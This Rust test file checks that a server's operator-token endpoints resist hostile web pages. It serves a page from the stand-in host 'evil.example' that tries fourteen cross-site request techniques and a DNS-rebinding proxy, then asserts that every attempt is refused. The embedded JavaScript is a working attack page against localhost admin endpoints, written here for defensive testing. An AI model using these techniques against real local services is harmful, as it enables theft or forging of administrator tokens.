//! A browser that shows a hostile page, which tries to get the operator token.

use std::collections::BTreeSet;
use std::io::{BufRead as _, BufReader, Read as _, Write as _};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::process::Stdio;
use std::sync::mpsc;
use std::thread;
use std::time::Duration;

use serde_json::{Value, json};

use crate::needs::{self, CHROMIUM};
use crate::support::{
    CREATE, ChildGuard, NOT_AUTHENTICATED, RECOVERY, REGENERATE, TestEnv, eventually, post,
};

/// Limit for all attempts of a page. The browser starts within seconds on an idle machine.
const LIMIT: Duration = Duration::from_mins(3);

/// Host of the page. Its name resolves to this machine.
const SITE: &str = "evil.example";

/// Attempts of the page on every target, in this order.
const ATTEMPTS: [&str; 14] = [
    "fetch",
    "fetch with credentials",
    "fetch with a preflight",
    "fetch without CORS",
    "fetch of GET",
    "fetch through a redirect",
    "XMLHttpRequest",
    "sendBeacon",
    "form",
    "form in a sandbox",
    "image",
    "script",
    "frame",
    "WebSocket",
];

/// An attempt reports the text that it could read of the response, if any. It ends after a second
/// without an event.
const PAGE: &str = r#"<!doctype html><meta charset="utf-8"><title>a page</title><body><script>
const targets = TARGETS;
const read = response => response.text();
const within = (time, promise) =>
  Promise.race([promise, new Promise(resolve => setTimeout(resolve, time, null))]).catch(() => null);
const element = (name, properties, readable) => new Promise(resolve => {
  const made = Object.assign(document.createElement(name), properties);
  made.onload = () => resolve(readable(made));
  made.onerror = () => resolve(null);
  document.body.append(made);
});
const inside = frame => { try { return frame.contentDocument.body.innerText; } catch { return null; } };
const formTo = url => Object.assign(document.createElement("form"),
  { method: "post", enctype: "text/plain", action: url });
let frames = 0;
const ways = {
  "fetch": url => fetch(url, { method: "POST", body: "x" }).then(read),
  "fetch with credentials": url => fetch(url, { method: "POST", credentials: "include" }).then(read),
  "fetch with a preflight": url => fetch(url, { method: "POST", body: "{}",
    headers: { "Content-Type": "application/json", "X-Recovery-Code": "00-00" } }).then(read),
  "fetch without CORS": url => fetch(url, { method: "POST", mode: "no-cors", body: "x" }).then(read),
  "fetch of GET": url => fetch(url).then(read),
  "fetch through a redirect": url =>
    fetch("/redirect?" + url, { method: "POST", mode: "no-cors", body: "x" }).then(read),
  "XMLHttpRequest": url => new Promise(resolve => {
    const request = new XMLHttpRequest();
    request.onloadend = () => resolve(request.responseText);
    request.open("POST", url);
    request.send("x");
  }),
  "sendBeacon": async url => { navigator.sendBeacon(url, "x"); return null; },
  "form": url => {
    const name = "frame" + frames++;
    return element("iframe", { name }, frame => frame).then(frame => new Promise(resolve => {
      frame.onload = () => resolve(inside(frame));
      const form = formTo(url);
      form.target = name;
      document.body.append(form);
      form.submit();
    }));
  },
  "form in a sandbox": url => {
    const inner = `<form method=post action="${url}"></form><script>document.forms[0].submit()<\/script>`;
    const frame = document.createElement("iframe");
    frame.sandbox = "allow-scripts allow-forms";
    frame.srcdoc = inner;
    document.body.append(frame);
    return new Promise(resolve => setTimeout(() => resolve(inside(frame)), 500));
  },
  "image": url => element("img", { src: url }, image => image.naturalWidth ? "an image" : null),
  "script": url => element("script", { src: url }, () => null),
  "frame": url => element("iframe", { src: url }, inside),
  "WebSocket": url => new Promise(resolve => {
    const socket = new WebSocket(url.replace("http:", "ws:"));
    socket.onmessage = event => resolve(event.data);
    socket.onopen = () => resolve("opened");
    socket.onerror = () => resolve(null);
  }),
};
(async () => {
  const tried = [];
  for (const url of targets)
    for (const [way, attempt] of Object.entries(ways))
      tried.push({ url, way, read: await within(1000, attempt(url)) });
  // That a page of this origin can read what it may is the measure of the rest.
  tried.push({ url: "here", way: "fetch", read: await fetch("/readable").then(read) });
  await fetch("/report", { method: "POST", body: JSON.stringify(tried) });
})();
</script>"#;

/// The server of the page. With an upstream it forwards requests for `/api/` there: after DNS
/// rebinding a page can ask a local server as its own origin.
struct Site {
    address: SocketAddr,
    report: mpsc::Receiver<Value>,
}

impl Site {
    fn open(at: &str, targets: &[String], upstream: Option<SocketAddr>) -> Self {
        let listener = TcpListener::bind(at).unwrap();
        let address = listener.local_addr().unwrap();
        let (sender, report) = mpsc::channel();
        let page = PAGE.replace("TARGETS", &json!(targets).to_string());
        // The threads end with the process.
        thread::spawn(move || {
            for stream in listener.incoming() {
                let (page, sender) = (page.clone(), sender.clone());
                thread::spawn(move || response(&stream.unwrap(), &page, upstream, &sender));
            }
        });
        Self { address, report }
    }
}

/// Responds to one request. A browser may also connect in advance and send none.
fn response(
    mut stream: &TcpStream,
    page: &str,
    upstream: Option<SocketAddr>,
    report: &mpsc::Sender<Value>,
) -> Option<()> {
    let (head, body) = message(stream)?;
    let target = head.split(' ').nth(1)?.to_owned();
    let (path, query) = target.split_once('?').unwrap_or((&target, ""));
    let html = "200 OK\r\nContent-Type: text/html".to_owned();
    let (head, content) = match path {
        "/" => (html, page),
        "/readable" => (html, "readable"),
        "/redirect" => (format!("307 Temporary Redirect\r\nLocation: {query}"), ""),
        "/report" => {
            report.send(serde_json::from_slice(&body).ok()?).ok()?;
            (html, "")
        }
        path => match upstream.filter(|_| path.starts_with("/api/")) {
            Some(upstream) => {
                let mut upstream = TcpStream::connect(upstream).ok()?;
                upstream.write_all(&[head.as_bytes(), &body].concat()).ok()?;
                let (head, body) = message(&upstream)?;
                return stream.write_all(&[head.as_bytes(), &body].concat()).ok();
            }
            None => ("404 Not Found".to_owned(), ""),
        },
    };
    let length = content.len();
    let response =
        format!("HTTP/1.1 {head}\r\nConnection: close\r\nContent-Length: {length}\r\n\r\n{content}");
    stream.write_all(response.as_bytes()).ok()
}

/// Reads the head of a request or response, unchanged, and its body.
fn message(stream: &TcpStream) -> Option<(String, Vec<u8>)> {
    let mut reader = BufReader::new(stream);
    let mut head = String::new();
    let mut length = 0;
    loop {
        let start = head.len();
        if reader.read_line(&mut head).ok()? == 0 {
            return None;
        }
        match head[start..].trim_end().split_once(": ") {
            Some((name, value)) if name.eq_ignore_ascii_case("content-length") => {
                length = value.parse().ok()?;
            }
            None if head[start..].trim_end().is_empty() => break,
            _ => {}
        }
    }
    let mut body = vec![0; length];
    reader.read_exact(&mut body).ok()?;
    Some((head, body))
}

/// Starts a browser that shows the page of a site, whose name resolves to its server.
fn open_browser(env: &TestEnv, site: &Site) -> ChildGuard {
    let mut command = needs::command(CHROMIUM);
    command
        .args(["--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run"])
        .arg(format!("--user-data-dir={}", env.home().join("profile").display()))
        .arg(format!("--host-resolver-rules=MAP {SITE} {}", site.address.ip()))
        .arg(format!("http://{SITE}:{}/", site.address.port()))
        .env("HOME", env.home())
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null());
    ChildGuard(command.spawn().unwrap())
}

/// Opens the page of a site, and returns the report of its attempts.
fn browse(site: &Site, targets: &[String]) -> Vec<Value> {
    let browsing = TestEnv::new();
    let browser = open_browser(&browsing, site);
    let report = site.report.recv_timeout(LIMIT).expect("the page sends no report");
    drop(browser);

    let mut tried = report.as_array().unwrap().clone();
    let control = tried.pop().unwrap();
    assert_eq!(control["read"], "readable");
    let expected: BTreeSet<_> =
        targets.iter().flat_map(|url| ATTEMPTS.map(|way| (url.as_str(), way))).collect();
    let found: BTreeSet<_> = tried
        .iter()
        .map(|attempt| (attempt["url"].as_str().unwrap(), attempt["way"].as_str().unwrap()))
        .collect();
    assert_eq!(found, expected);
    tried
}

pub(crate) fn cross_site_page_neither_creates_nor_reads_token() {
    let (lost, fresh) = (TestEnv::new(), TestEnv::new());
    // Logs every rejection.
    let detailed = ["--log-filter", "debug"];
    let recovering = lost.serve(&[RECOVERY, detailed].concat());
    let token = recovering.create();
    let bootstrapping = fresh.serve(&detailed);
    let endpoints = [(recovering.recovery(), REGENERATE), (bootstrapping.address, CREATE)];
    let before = (lost.stored_catalog(), fresh.stored_catalog());

    let targets: Vec<_> = endpoints
        .iter()
        .flat_map(|(address, path)| {
            ["127.0.0.1", "localhost", SITE].map(|name| format!("http://{name}:{}{path}", address.port()))
        })
        .collect();
    let tried = browse(&Site::open("127.0.0.1:0", &targets, None), &targets);
    for attempt in &tried {
        assert!(matches!(attempt["read"].as_str(), None | Some("")), "{attempt}");
    }
    assert_eq!((lost.stored_catalog(), fresh.stored_catalog()), before);
    // The requests have reached the checks: at least six attempts with each of three names.
    for (server, message) in
        [(&recovering, "token recovery refused"), (&bootstrapping, "creation of the operator token refused")]
    {
        eventually("the log has the rejections", || server.log().matches(message).count() >= 18);
    }
    assert!(recovering.accepts(&token));
    for (address, path) in endpoints {
        post(path).send(address).token();
    }
}

pub(crate) fn dns_rebinding_page_is_rejected() {
    let host_mismatch = "the Host header names no address of this listener";
    let page_rejected = "web pages may not ask for this";
    for (path, flags, posted, got) in [
        // A browser sends no Origin with a same-origin GET, so only the Host header differs.
        (REGENERATE, &RECOVERY[..], host_mismatch, host_mismatch),
        (CREATE, &[], host_mismatch, NOT_AUTHENTICATED),
        // A server with remote bootstrap has any name.
        (CREATE, &["--admin-token-bootstrap", "any"], page_rejected, NOT_AUTHENTICATED),
    ] {
        let env = TestEnv::new();
        let server = env.serve_with(flags).args(&["--log-filter", "debug"]).start();
        let recovering = path == REGENERATE;
        let token = recovering.then(|| server.create());
        let upstream = if recovering { server.recovery() } else { server.address };
        let before = env.stored_catalog();
        // The origin of a page includes the port.
        let targets = [format!("http://{SITE}:{}{path}", upstream.port())];
        let site = Site::open(&format!("127.0.0.2:{}", upstream.port()), &targets, Some(upstream));
        let tried = browse(&site, &targets);
        let read = |name: &str| tried.iter().find(|attempt| attempt["way"] == name).unwrap()["read"].as_str();
        for (name, message) in
            [("fetch", posted), ("fetch with a preflight", posted), ("form", posted), ("fetch of GET", got)]
        {
            assert!(read(name).unwrap_or_default().starts_with(message), "{name}: {tried:?}");
        }
        for attempt in &tried {
            let read = attempt["read"].as_str().unwrap_or_default();
            let rejections = [host_mismatch, page_rejected, NOT_AUTHENTICATED];
            assert!(
                read.is_empty() || rejections.iter().any(|message| read.starts_with(message)),
                "{attempt}"
            );
        }
        assert_eq!(env.stored_catalog(), before);
        eventually("the log has the rejections", || server.log().matches(" refused: ").count() >= 6);
        assert!(token.iter().all(|token| server.accepts(token)));
        post(path).send(upstream).token();
    }
}
